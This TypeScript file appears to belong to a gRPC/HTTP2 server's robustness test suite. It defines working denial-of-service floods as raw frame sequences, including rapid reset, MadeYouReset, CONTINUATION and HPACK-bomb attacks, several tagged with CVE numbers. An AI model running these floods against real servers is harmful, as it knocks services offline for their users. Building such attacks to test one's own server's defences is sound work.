import { encodeFields } from '../../../src/grpc/hpack/encodeFields.ts';
import { errorCode, flag, frameType, preface, setting } from '../../../src/grpc/http2/protocol.ts';
import { frame, message, requestFields, settingsFrame, uint32 } from '../../testbed/rawHttp2.ts';
import { type Attack, sized } from '../attack.ts';
import { opening, type SendOptions } from '../attackClients.ts';
import { always, data, headers, largestFrame, open, repeat, streamAfterStream } from './frames.ts';
import { headersRequest } from './requests.ts';

/**
 * Clients that send what costs them little, as fast as they can. CVE numbers are those under which
 * an attack became known.
 */
const block = requestFields();
const checkBlock = requestFields({ ':path': '/grpc.health.v1.Health/Check' });
const request = message(headersRequest);

const cancel = (id: number): Buffer => frame(frameType.rstStream, 0, id, uint32(errorCode.cancel));
const withStream = Buffer.concat([opening, open(1)]);
const ping = frame(frameType.ping, 0, 0, Buffer.alloc(8));

/** A field of 3.9 KB for the dynamic table, and a header list that repeats it. */
const largeField = Buffer.concat([
  Buffer.from([0x40]),
  encodeFields([['x-large', 'x'.repeat(3_900)]]).subarray(1),
]);
const indexed = Buffer.alloc(largestFrame, 0xbe);

const usualConnections = 4;

/** Each of its bytes is a code of five bits. */
const longBlock = Buffer.concat([block, encodeFields([['x-filler', 'e'.repeat(60_000)]])]);

function flood(
  name: string,
  options: Omit<SendOptions, 'connections'>,
  connections = usualConnections,
): Attack {
  return {
    name,
    group: 'floods',
    run: (context) => context.clients.flood({ ...options, connections: sized(context, connections) }),
  };
}

/** One-byte frames: streams whose messages come byte by byte. */
const byteByByte = (): (() => Buffer) => {
  const announced = 1_000_000;
  const oneByte = (id: number): Buffer => repeat(() => data(id, Buffer.alloc(1)), 1_000);
  let id = -1;
  let sent = announced;
  let chunk: Buffer = Buffer.alloc(0);
  return () => {
    if (sent < announced) {
      sent += 1_000;
      return chunk;
    }
    id += 2;
    sent = 0;
    chunk = oneByte(id);
    return Buffer.concat([open(id), data(id, Buffer.concat([Buffer.from([0]), uint32(announced)]))]);
  };
};

/** Streams that wait for a window, which is widened byte by byte. */
const waitingStreams = 15_000;
const waiting = Buffer.concat([
  preface,
  settingsFrame([setting.initialWindowSize, 0]),
  repeat((nth) => Buffer.concat([open(2 * nth + 1), data(2 * nth + 1, request)]), waitingStreams),
]);

export const floods: readonly Attack[] = [
  flood('rapid reset (CVE-2023-44487)', {
    chunks: streamAfterStream((id) => Buffer.concat([open(id), cancel(id)])),
  }),
  flood('rapid reset of requests that were decided', {
    chunks: streamAfterStream((id) => Buffer.concat([open(id), data(id, request), cancel(id)])),
  }),
  flood('MadeYouReset by empty windows (CVE-2025-8671)', {
    chunks: streamAfterStream((id) =>
      Buffer.concat([open(id), data(id, request), frame(frameType.windowUpdate, 0, id, uint32(0))]),
    ),
  }),
  flood('MadeYouReset by DATA after the end (CVE-2025-8671)', {
    chunks: streamAfterStream((id) =>
      Buffer.concat([open(id), data(id, request, flag.endStream), data(id, Buffer.alloc(1))]),
    ),
  }),
  flood('requests that are malformed (CVE-2019-9514)', {
    chunks: streamAfterStream((id) => headers(id, requestFields({ connection: 'close' }))),
  }),
  flood('CONTINUATION without end (CVE-2024-27316)', {
    start: Buffer.concat([opening, frame(frameType.headers, 0, 1, block)]),
    chunks: always(repeat(() => frame(frameType.continuation, 0, 1, Buffer.alloc(100, 0x82)))),
  }),
  flood('CONTINUATION of one byte', {
    start: Buffer.concat([opening, frame(frameType.headers, 0, 1, block)]),
    chunks: always(repeat(() => frame(frameType.continuation, 0, 1, Buffer.from([0x82])))),
  }),
  flood('CONTINUATION without content (CVE-2019-9518)', {
    start: Buffer.concat([opening, frame(frameType.headers, 0, 1)]),
    chunks: always(repeat(() => frame(frameType.continuation, 0, 1))),
  }),
  flood('HPACK bomb', {
    start: Buffer.concat([opening, headers(1, Buffer.concat([block, largeField]))]),
    chunks: () => {
      const bomb = Buffer.concat([block, indexed.subarray(block.length)]);
      let streams = 1;
      return () => repeat(() => headers(2 * streams++ + 1, bomb), 8);
    },
  }),
  flood('header lists of 60 KB in Huffman code', {
    chunks: streamAfterStream((id) => headers(id, longBlock), 2),
  }),
  flood('PING (CVE-2019-9512)', { chunks: always(repeat(() => ping)) }),
  flood('PING, answers unread', { chunks: always(repeat(() => ping)), reads: false }),
  flood('SETTINGS (CVE-2019-9515)', { chunks: always(repeat(() => settingsFrame())) }),
  flood('SETTINGS with other windows', {
    start: waiting,
    chunks: always(repeat((nth) => settingsFrame([setting.initialWindowSize, nth % 2]))),
  }),
  flood('empty DATA frames (CVE-2019-9518)', {
    start: withStream,
    chunks: always(repeat(() => data(1, Buffer.alloc(0)))),
  }),
  flood('DATA that is only padding', {
    start: withStream,
    chunks: always(
      repeat(() => data(1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)]), flag.padded)),
    ),
  }),
  flood('PRIORITY (CVE-2019-9513)', {
    chunks: always(repeat(() => frame(frameType.priority, 0, 1, Buffer.alloc(5)))),
  }),
  flood('frames of unknown types', { chunks: always(repeat(() => frame(200, 0, 0, Buffer.alloc(8)))) }),
  flood('one-byte DATA on 64 connections', { chunks: byteByByte }, 64),
  flood('windows widened for 15,000 streams', {
    start: waiting,
    chunks: always(repeat(() => frame(frameType.windowUpdate, 0, 0, uint32(1)))),
  }),
  flood('requests without pause', {
    chunks: streamAfterStream((id) => Buffer.concat([open(id), data(id, request, flag.endStream)])),
  }),
  flood('health checks without pause', {
    chunks: streamAfterStream((id) =>
      Buffer.concat([open(id, checkBlock), data(id, message(Buffer.alloc(0)), flag.endStream)]),
    ),
  }),
  flood('bytes of another protocol', {
    start: Buffer.from('GET / HTTP/1.1\r\nhost: x\r\n\r\n'),
    chunks: always(Buffer.alloc(1_000, 'x')),
  }),
  {
    name: 'connections opened and closed',
    group: 'floods',
    async run({ clients }) {
      const one = async (): Promise<void> => {
        while (!clients.signal.aborted) {
          const socket = await clients.connect();
          socket?.write(opening);
          await clients.pause(1);
          socket?.resetAndDestroy();
        }
      };
      await Promise.all(Array.from({ length: 16 }, one));
    },
  },
];
